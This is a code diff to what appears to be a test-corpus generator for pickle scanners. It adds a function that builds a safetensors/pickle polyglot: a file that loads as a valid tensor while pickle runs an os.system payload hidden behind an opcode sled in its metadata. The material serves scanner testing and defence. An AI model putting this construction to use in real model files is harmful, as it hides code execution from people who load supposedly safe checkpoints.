@@ -778,6 +778,11 @@ def scanner_evasion(c: Corpus) -> None:
     fam = "scanner_evasion"
     add = c.add
 
+    add("safetensors_polyglot.bin", fam,
+        "a valid safetensors file (header, offsets and all) that pickle also runs from byte 0: "
+        "the header's length is a BINBYTES opcode that jumps into a NONE sled in the metadata, "
+        "and the one tensor's bytes are the payload (a load refuses it as no checkpoint, as torch.load does)",
+        MALFORMED, safetensors_polyglot(), ["os.system"])
     add("broken_opcode_after_payload.pt", fam,
         "the payload runs, then an invalid opcode 0xff breaks the stream (scanners that give up on "
         "a malformed pickle see nothing)",
@@ -1753,6 +1758,28 @@ def replace_once(data: bytes, old: bytes, new: bytes, after: bytes = b"") -> byt
         assert data.count(old) == 1, old
     at = data.index(old, start)
     return data[:at] + new + data[at + len(old):]
+
+
+def safetensors_polyglot() -> bytes:
+    """A file that the safetensors library reads as one uint8 tensor and pickle
+    runs from byte 0: BINBYTES at byte 0 takes its length from the header's
+    length bytes and lands in a run of NONE opcodes inside a metadata string; a
+    SHORT_BINBYTES at the run's end skips the rest of the JSON, and the tensor's
+    bytes are the payload."""
+    payload = pkl(os_system(), 4)
+    tail = '"},"t":{"dtype":"U8","shape":[' + str(len(payload)) + '],"data_offsets":[0,' + str(len(payload)) + "]}}"
+    head = '{"__metadata__":{"p":"'
+    for sled in range(8000, 9000):
+        header = head + "N" * sled + "C" + chr(len(tail)) + tail
+        n = len(header.encode())
+        skipped = (n - 0x42) // 256
+        landing = 5 + skipped - 8  # in the header
+        if n % 256 == 0x42 and len(head) < landing < len(head) + sled:
+            break
+    assert 0x20 <= len(tail) < 0x7f and chr(len(tail)) not in '"\\'
+    data = struct.pack("<Q", n) + header.encode() + payload
+    assert data[0] == ord(BINBYTES)
+    return data
 
 
 def dcp_family(c: Corpus) -> None:
